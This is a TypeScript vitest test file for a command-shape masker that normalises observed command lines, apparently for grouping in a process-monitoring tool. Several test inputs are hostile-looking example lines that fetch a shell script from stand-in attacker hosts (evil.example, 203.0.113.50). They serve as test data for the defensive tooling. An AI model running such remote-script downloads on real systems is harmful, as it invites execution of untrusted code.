import { describe, expect, it } from 'vitest';
import { commandShape, maskArgument } from './mask-command';
import { shapeGlob, shapeText } from './pieces';

const shape = (exe: string, args: string[], isCut = false) =>
  shapeText(commandShape(exe, args, isCut).pieces);

describe('commandShape', () => {
  it('masks numbers so that runs of one command are one shape', () => {
    expect(shape('/bin/sleep', ['37'])).toBe('/bin/sleep <n>');
    expect(shape('/bin/sleep', ['12'])).toBe(shape('/bin/sleep', ['37']));
    expect(shape('/bin/sh', ['-c', 'sleep 37'])).toBe("/bin/sh -c 'sleep <n>'");
    expect(shape('/bin/sh', ['-c', 'sleep 12'])).toBe(shape('/bin/sh', ['-c', 'sleep 37']));
  });

  it('masks UUIDs, hex runs and temporary names', () => {
    expect(
      shape('/usr/bin/docker', ['rm', '0f8e2c1a-4b3d-4e5f-9a8b-7c6d5e4f3a2b', '0x7ffde4a0']),
    ).toBe('/usr/bin/docker rm <uuid> <hex>');
    expect(shape('/usr/bin/git', ['checkout', '3f2a9c1b7e6d5a4b'])).toBe(
      '/usr/bin/git checkout <hex>',
    );
    expect(shape('/bin/cp', ['/etc/hosts', '/tmp/tmp.k3J9xQ2a0b/hosts'])).toBe(
      '/bin/cp /etc/hosts /tmp/<tmp>/hosts',
    );
  });

  it('keeps names people chose', () => {
    expect(shape('/usr/bin/python3', ['-m', 'http.server'])).toBe(
      '/usr/bin/python3 -m http.server',
    );
    expect(shape('/usr/bin/curl', ['-s', 'http://evil.example/x.sh'])).toBe(
      '/usr/bin/curl -s http://evil.example/x.sh',
    );
  });

  it('quotes empty arguments and arguments with blanks or quotes', () => {
    expect(shape('/bin/echo', ['', "it's"])).toBe("/bin/echo '' 'it'\\''s'");
  });

  it('marks a command line whose arguments go on past what is known', () => {
    expect(shape('/bin/tar', ['-czf', 'x.tgz'], true)).toBe('/bin/tar -czf x.tgz …');
  });

  it('gives each argument its own pieces, for the query', () => {
    const { args } = commandShape('/bin/sh', ['-c', 'sleep 37'], false);
    expect(args.map(shapeGlob)).toEqual(['-c', 'sleep *']);
  });
});

describe('maskArgument', () => {
  it('escapes glob characters of the literal parts', () => {
    expect(shapeGlob(maskArgument('a*b 42'))).toBe('a\\*b *');
  });

  it('keeps IPv4 addresses, masks the port and version-like numbers', () => {
    expect(shapeText(maskArgument('10.0.3.17:8080'))).toBe('10.0.3.17:<n>');
    expect(shapeText(maskArgument('http://203.0.113.50/x.sh'))).toBe('http://203.0.113.50/x.sh');
    expect(shapeText(maskArgument('v1.2.3'))).toBe('v1.<n>.<n>');
  });
});
